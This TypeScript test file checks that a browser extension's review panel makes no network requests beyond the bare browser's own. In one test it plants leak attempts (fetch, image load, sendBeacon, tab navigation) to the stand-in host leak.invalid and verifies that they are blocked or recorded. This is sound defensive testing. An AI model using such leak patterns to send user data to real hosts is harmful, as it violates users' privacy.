import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'puppeteer-core';
import { expect, test } from 'vitest';
import { buildExtension } from './build-extension.ts';
import { type Chromium, startChromium } from './chromium.ts';
import { startProxy } from './recording-proxy.ts';
import { isChecked, listed } from './seen.ts';
import { serveSite } from './site.ts';
import { until } from './until.ts';

type NetLog = { constants: { logEventTypes: Record<string, number> }; events: { type: number; params?: { url?: string } }[] };

/** The same walk with or without the extension; all that the whole browser asked of anyone but the site. */
async function walk(
  extension?: string,
  then?: (chromium: Chromium, panel: Page) => Promise<void>,
): Promise<{ hosts: string[]; all: string }> {
  const folder = mkdtempSync(join(tmpdir(), 'said-before-netlog-'));
  const log = join(folder, 'log.json');
  const site = await serveSite();
  const proxy = await startProxy();
  const chromium = await startChromium(extension, [
    `--proxy-server=127.0.0.1:${proxy.port}`,
    `--proxy-bypass-list=${new URL(site.url).host}`,
    `--log-net-log=${log}`,
    '--net-log-capture-mode=Everything',
  ]);
  const page = await chromium.browser.newPage();
  await page.goto(`${site.url}/oversight-panel-2021.html`);
  if (extension) {
    const panel = await chromium.openPanel(page);
    await until('the page to be checked', () => isChecked(panel), 60);
    const inPanel = (part: string) => until(part, () => panel.$(`review-panel >>> ${part}`));
    await (await inPanel('[data-card][aria-expanded="false"]')).click();
    await (await inPanel('#tab-search')).click();
    await (await inPanel('search-tab >>> input')).type('segregation');
    const options = await chromium.browser.newPage();
    await options.goto(`chrome-extension://${chromium.id}/options.html`);
    await options.waitForSelector('options-page >>> h1');
    expect(await listed(panel)).toBeDefined();
    await then?.(chromium, panel);
  }
  await page.goto(`${site.url}/hollins-2023.html`);
  await chromium.close();
  proxy.close();
  site.close();
  const { constants, events } = JSON.parse(readFileSync(log, 'utf8')) as NetLog;
  rmSync(folder, { recursive: true });
  const started = events.flatMap((e) => (e.type === constants.logEventTypes.URL_REQUEST_START_JOB && e.params?.url ? [e.params.url] : []));
  const outward = started.filter((url) => /^(https?|wss?):/.test(url) && !url.startsWith(site.url));
  return { hosts: [...new Set(outward.map((url) => new URL(url).hostname))].sort(), all: [...outward, ...proxy.asked].join('\n') };
}

// Chromium's own clock, updater and account check, which come and go from run to run.
const OWN = /(^|\.)(google|googleapis|gvt1|gstatic|googleusercontent)\.com$/;
const WORDS = /segregation|recommendation|hollins/i;

test('with the extension at work, the whole browser asks nothing of anyone that it does not ask without', async () => {
  const bare = await walk();
  const ours = await walk(buildExtension('chrome'));
  expect(ours.hosts.filter((host) => !OWN.test(host))).toEqual(bare.hosts.filter((host) => !OWN.test(host)));
  expect(ours.hosts.filter((host) => !OWN.test(host))).toEqual([]);
  expect(ours.all).not.toMatch(WORDS);
});

test('a planted leak is caught, and the extension’s own rules stop the quiet ways out', async () => {
  const outcomes: unknown[] = [];
  const { all } = await walk(buildExtension('chrome'), async (chromium, panel) => {
    const attempt = `fetch('http://leak.invalid/fetch').then(() => 'sent', () => 'stopped')`;
    outcomes.push(await panel.evaluate(attempt), await chromium.inBackground(attempt));
    outcomes.push(
      await panel.evaluate(
        `new Promise((done) => { const image = new Image(); image.onload = image.onerror = (e) => done(e.type === 'load' ? 'sent' : 'stopped'); image.src = 'http://leak.invalid/image' })`,
      ),
    );
    await panel.evaluate(`navigator.sendBeacon('http://leak.invalid/beacon', 'x')`);
    // Opening a page is what no rule stops: the recorder must see it.
    const tab = await chromium.browser.newPage();
    await tab.goto('http://leak.invalid/tab?q=segregation').catch(() => {});
  });
  expect(outcomes).toEqual(['stopped', 'stopped', 'stopped']);
  expect(all).toContain('http://leak.invalid/tab?q=segregation');
  expect(all).not.toMatch(/leak\.invalid\/(fetch|image|beacon)/);
});
